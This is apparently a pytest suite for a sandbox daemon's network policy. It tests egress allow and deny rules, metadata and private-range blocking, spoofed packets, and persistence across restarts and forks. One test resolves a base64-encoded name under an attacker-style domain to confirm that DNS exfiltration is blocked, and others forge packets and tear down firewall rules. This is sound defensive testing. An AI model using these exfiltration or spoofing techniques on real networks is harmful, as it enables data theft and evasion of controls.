# SPDX-License-Identifier: Apache-2.0
"""Whom a Linux guest reaches, and who reaches it: real programs in it, real servers in the world behind the host."""

import contextlib
import json
import os
import socket

import dbus
import pytest

from cubetest import as_user, created, ctl_ok, prop, run, sandbox, wait_for
from world import DNS, HOST, METADATA, OTHER, PRIVATE, PRIVATE6, WWW, WWW6, world

HERE = os.path.dirname(os.path.abspath(__file__))
PROBE = os.path.join(HERE, "..", "lib", "guest_probe.py")
CONFIG = "/etc/cubed/cubed.conf.d/60-network.conf"
HOST_PORT = 8000
# What a denied TCP connection and a denied datagram are told, at once.
DENIED = ("refused", "Connection refused", "Network is unreachable", "No route to host", "Permission denied")


@pytest.fixture(scope="module")
def w():
    with open(CONFIG, "w", encoding="ascii") as f:
        f.write("[Network]\nNetwork6=fd3c:cbed::/64\nFreeSlots=2\n")
    run("systemctl", "restart", "cubed.service", check=True)
    run("systemctl", "start", "cube-resolver.service", check=True)
    try:
        with world() as made:
            yield made
    finally:
        os.unlink(CONFIG)
        run("systemctl", "restart", "cubed.service", check=True)


def push_probe(sandbox_id):
    with open(PROBE, "rb") as f:
        run("cubectl", "exec", sandbox_id, "--", "sh", "-c", "cat >/root/probe.py", input=f.read(), check=True)


@pytest.fixture(scope="module")
def guest(w):
    with created("--timeout", "1h") as sandbox_id:
        push_probe(sandbox_id)
        yield sandbox_id


def probe(sandbox_id, *probes):
    out = run("cubectl", "exec", sandbox_id, "--", "python3", "/root/probe.py", input=json.dumps(probes).encode(), check=True).stdout
    return json.loads(out)


def policy(sandbox_id, *rules, default="deny"):
    """Each rule "allow TEXT", "deny TEXT" or "inbound TEXT"."""
    lists = {}
    for rule in rules:
        name, text = rule.split(" ", 1)
        lists.setdefault(name, []).append(text)
    values = {"default": default} | {name: dbus.Array(texts, signature="s") for name, texts in lists.items()}
    sandbox(sandbox_id).SetNetworkPolicy(dbus.Dictionary(values, signature="sv"), timeout=120)


def is_open(result):
    return isinstance(result, list) or result.startswith(("open ", "answered"))


def reached(sandbox_id, *probes):
    """The probes that got through; what did not was told so, and did not run into a time-out."""
    results = probe(sandbox_id, *probes)
    for p, result in zip(probes, results):
        assert is_open(result) or result in DENIED or result.startswith("unresolved"), (p, result)
    return [p for p, result in zip(probes, results) if is_open(result)]


def denied(sandbox_id):
    return int(sandbox(sandbox_id).GetStatistics(timeout=60)["NetworkDeniedPacketsOut"])


@contextlib.contextmanager
def host_server():
    """A service of the host's, on all its addresses."""
    with socket.create_server(("", HOST_PORT)) as s:
        yield s


EVERYWHERE = [["tcp", a, 80] for a in (WWW, OTHER, DNS, PRIVATE, METADATA, WWW6, PRIVATE6)]


def test_nothing_is_reached_by_default(w, guest):
    w.forget()
    with host_server():
        assert reached(guest, *EVERYWHERE, ["tcp", HOST, HOST_PORT], ["tcp", "169.254.77.1", HOST_PORT], ["udp", WWW, 7], ["ping", WWW],
                       ["ping", WWW6]) == []
    assert probe(guest, ["resolve", "www.example.test"], ["query", DNS, "www.example.test"]) == [
        probe(guest, ["resolve", "x.test"])[0], "refused"]
    seen = w.look()
    assert not [p for p in seen.packets if p[2] in (WWW, OTHER, DNS, PRIVATE, METADATA, WWW6, PRIVATE6)] and not seen.names


def test_the_internet_is_all_but_special_ranges_the_host_and_what_is_denied(guest, w):
    policy(guest, f"deny {DNS}", default="internet")
    with host_server():
        assert reached(guest, *EVERYWHERE, ["tcp", HOST, HOST_PORT], ["udp", WWW, 7], ["ping", WWW], ["ping", WWW6],
                       ["udp", DNS, 7], ["name", "www.example.test", 443]) == [
            ["tcp", WWW, 80], ["tcp", OTHER, 80], ["tcp", WWW6, 80], ["udp", WWW, 7], ["ping", WWW], ["ping", WWW6],
            ["name", "www.example.test", 443]]
    # masqueraded
    assert probe(guest, ["tcp", WWW, 80], ["tcp", WWW6, 80]) == [f"open {WWW} {HOST}", f"open {WWW6} 2001:db8::1"]


def test_addresses_protocols_and_ports(guest, w):
    policy(guest, "allow 203.0.113.0/28", f"allow {OTHER} tcp:443,8000-8999", f"allow {PRIVATE} tcp:80", f"allow {HOST} tcp:{HOST_PORT} host")
    with host_server():
        assert reached(guest, *EVERYWHERE, ["udp", WWW, 7], ["tcp", OTHER, 443], ["udp", OTHER, 7], ["tcp", PRIVATE, 443], ["udp", PRIVATE, 7],
                       ["tcp", HOST, HOST_PORT], ["tcp", HOST, 22], ["ping", WWW]) == [
            ["tcp", WWW, 80], ["tcp", PRIVATE, 80], ["udp", WWW, 7], ["tcp", OTHER, 443], ["tcp", HOST, HOST_PORT], ["ping", WWW]]


def test_names(guest, w):
    policy(guest, "allow www.example.test tcp:80", "allow *.wild.test")
    w.forget()
    # an address is open once its name was asked for, for what the rule says
    assert reached(guest, ["tcp", WWW, 80]) == []
    assert reached(guest, ["name", "www.example.test", 80]) == [["name", "www.example.test", 80]]
    assert reached(guest, ["tcp", WWW, 80], ["tcp", WWW, 443], ["name", "a.wild.test", 22], ["name", "b.c.wild.test", 443],
                   ["name", "other.example.test", 80], ["name", "wild.test", 80]) == [
        ["tcp", WWW, 80], ["name", "a.wild.test", 22], ["name", "b.c.wild.test", 443]]
    # neither by another server nor in a name does anything come out
    assert probe(guest, ["resolve", "c2VjcmV0.attacker.test"], ["query", OTHER, "www.example.test"],
                 ["query", "169.254.77.1", "c2VjcmV0.attacker.test"], ["tcp", OTHER, 53])[1:] == ["refused", "rcode 3", "refused"]
    assert set(w.look().names) == {"www.example.test", "a.wild.test", "b.c.wild.test"}
    assert {p[1] for p in w.packets if p[3] == 53} == {HOST}


def test_a_name_that_leads_inside_opens_nothing(guest, w):
    policy(guest, "allow inside.example.test")
    assert reached(guest, ["name", "inside.example.test", 80], ["tcp", PRIVATE, 80]) == []
    policy(guest, "allow inside.example.test in 10.66.0.0/16")
    assert reached(guest, ["name", "inside.example.test", 80]) == [["name", "inside.example.test", 80]]


def test_other_name_servers_are_reached_where_the_internet_is(guest, w):
    policy(guest, default="internet")
    assert probe(guest, ["query", OTHER, "www.example.test"]) == ["rcode 0"]


def test_what_is_forged_does_not_get_out(guest, w):
    policy(guest, default="internet")
    before = denied(guest)
    w.forget()
    own = "169.254.77.2"
    assert probe(guest, ["raw", "203.0.113.99", WWW], ["raw", prop(guest, "NetworkAddress"), WWW], ["frame", "02:00:00:00:00:99", own, WWW],
                 ["frame", "02:cb:ff:00:00:02", HOST, WWW], ["raw", own, WWW], ["udp", WWW, 7])[-1] == f"answered {HOST}"
    wait_for("the one datagram that was not forged", lambda: len([p for p in w.got(WWW) if p[0] == 17]) >= 2)
    assert {p[1] for p in w.packets if p[2] == WWW} == {HOST}
    assert denied(guest) >= before + 4


@contextlib.contextmanager
def held(sandbox_id, address, port=80):
    """A connection that is never silent; its state."""
    path = f"/root/held-{address}"
    ctl_ok("exec", sandbox_id, "--", "sh", "-c",
           f"rm -f {path}; setsid python3 /root/probe.py {address} {port} {path} </dev/null >/root/held.log 2>&1 &")

    def state():
        text = ctl_ok("exec", sandbox_id, "--", "sh", "-c", f"cat {path} 2>/dev/null || :")
        return json.loads(text) if text else {"n": 0, "error": None}
    wait_for("the connection to work", lambda: state()["n"] > 2)
    try:
        yield state
    finally:
        ctl_ok("exec", sandbox_id, "--", "pkill", "-f", path)


def goes_on(state):
    n = state()["n"]
    now = wait_for("lines to come back", lambda: (s := state())["error"] or s["n"] > n + 2 and s)
    assert now is not True and not now["error"], now
    return now


def test_another_policy_cuts_what_it_denies_and_leaves_the_rest(guest, w):
    policy(guest, f"allow {WWW}", f"allow {OTHER}")
    with held(guest, WWW) as kept, held(guest, OTHER) as cut:
        w.forget()
        policy(guest, f"allow {WWW}")
        wait_for("the guest's end to hear of it", lambda: cut()["error"] == "ConnectionResetError")
        wait_for("the other end to hear of it", lambda: (OTHER, "ConnectionResetError") in w.look().ends)
        goes_on(kept)
        assert not [e for e in w.ends if e[0] == WWW]
        assert reached(guest, ["tcp", OTHER, 80], ["tcp", WWW, 80]) == [["tcp", WWW, 80]]


# What a policy lets through and what not, whatever was done to the sandbox.
RULES = (f"allow {WWW}", "allow a.wild.test tcp:443")
TRIED = [["tcp", WWW, 80], ["tcp", DNS, 80], ["tcp", PRIVATE, 80], ["name", "a.wild.test", 443], ["name", "www.example.test", 443],
         ["tcp", METADATA, 80], ["tcp", WWW6, 80]]
THROUGH = [["tcp", WWW, 80], ["name", "a.wild.test", 443]]


def test_it_holds_after_a_restart_of_cubed_and_while_it_is_away(guest, w):
    policy(guest, *RULES)
    with held(guest, WWW) as kept:
        run("systemctl", "kill", "-s", "KILL", "cubed.service", check=True)
        wait_for("cubed to be back", lambda: run("cubectl", "list").returncode == 0)
        goes_on(kept)
        assert reached(guest, *TRIED) == THROUGH
    run("systemctl", "stop", "cubed.service", check=True)
    try:
        assert f"cube{slot(guest)}" in os.listdir("/sys/class/net")
        assert "cubed" in run("nft", "list", "tables").stdout.decode()
    finally:
        run("systemctl", "start", "cubed.service", check=True)


def slot(sandbox_id):
    with open(f"/run/cubed/sandbox/{sandbox_id}/state.json", encoding="utf-8") as f:
        return json.load(f)["slot"]


def test_it_holds_after_pause_and_resume(guest, w):
    policy(guest, *RULES)
    address = prop(guest, "NetworkAddress")
    ctl_ok("pause", guest, timeout=300)
    ctl_ok("resume", guest, timeout=300)
    assert prop(guest, "NetworkAddress") == address
    assert reached(guest, *TRIED) == THROUGH


def test_it_holds_in_a_fork_and_after_a_rollback(guest, w):
    policy(guest, *RULES)
    snapshot = ctl_ok("snapshot", guest, timeout=300).split()[-1]
    [fork] = ctl_ok("fork", guest, timeout=300).split()
    try:
        assert prop(fork, "NetworkAddress") != prop(guest, "NetworkAddress")
        assert reached(fork, *TRIED) == THROUGH
        # neither its parent nor anybody else's sandbox
        assert reached(fork, ["tcp", prop(guest, "NetworkAddress"), 22], ["ping", prop(guest, "NetworkAddress")]) == []
    finally:
        ctl_ok("kill", fork)
    address = prop(guest, "NetworkAddress")
    ctl_ok("rollback", guest, snapshot, timeout=300)
    assert prop(guest, "NetworkAddress") == address
    assert reached(guest, *TRIED) == THROUGH


SERVE = "import http.server as h; h.test(h.SimpleHTTPRequestHandler, port=8080, bind='0.0.0.0')"
TRY = "import socket, sys; socket.create_connection((sys.argv[1], 8080), 5); print('in')"


def test_who_may_connect_to_it(guest, w):
    policy(guest)
    ctl_ok("exec", guest, "--", "sh", "-c", f"cd /tmp; setsid python3 -c \"{SERVE}\" </dev/null >/dev/null 2>&1 &")
    address = prop(guest, "NetworkAddress")
    wait_for("root to reach it", lambda: run("python3", "-c", TRY, address).returncode == 0)
    assert as_user("bob", "python3", "-c", TRY, address).returncode != 0
    from_world = [*w.inside, "python3", "-c", TRY, address]
    run(*w.inside, "ip", "route", "add", "10.209.0.0/16", "via", HOST)
    assert run(*from_world).returncode != 0
    policy(guest, "inbound 198.51.100.0/24 tcp:8080")
    assert run(*from_world).returncode == 0
    policy(guest)


def nothing_passes(sandbox_id, w):
    w.forget()
    results = probe(sandbox_id, ["tcp", WWW, 80], ["tcp", WWW6, 80], ["udp", WWW, 7])
    assert not [r for r in results if is_open(r)], results
    return not w.got(WWW) and not w.got(WWW6)


def test_without_a_part_of_it_nothing_passes(guest, w):
    """Whoever takes a part away, while nobody puts it back: the table, the sandbox's entry, the filter."""
    policy(guest, default="internet")
    assert is_open(probe(guest, ["tcp", WWW, 80])[0])
    netd = run("pgrep", "-x", "cube-netd").stdout.split()[0].decode()
    run("kill", "-STOP", netd, check=True)
    run("nft", "flush", "ruleset", check=True)
    assert nothing_passes(guest, w)
    run("kill", "-CONT", netd, check=True)
    wait_for("the table to be back", lambda: is_open(probe(guest, ["tcp", WWW, 80])[0]))
    number = slot(guest)
    [pins] = [name for name in os.listdir("/sys/fs/bpf/cubed") if name.isdigit()]
    run("bpftool", "map", "delete", "pinned", f"/sys/fs/bpf/cubed/{pins}/sandboxes", "key", *number.to_bytes(4, "little"), check=True)
    assert nothing_passes(guest, w)
    with created("--timeout", "1h", "--network", "internet") as other:
        push_probe(other)
        assert is_open(probe(other, ["tcp", WWW, 80])[0])
        run("tc", "qdisc", "del", "dev", f"cube{slot(other)}", "clsact", check=True)
        assert nothing_passes(other, w)
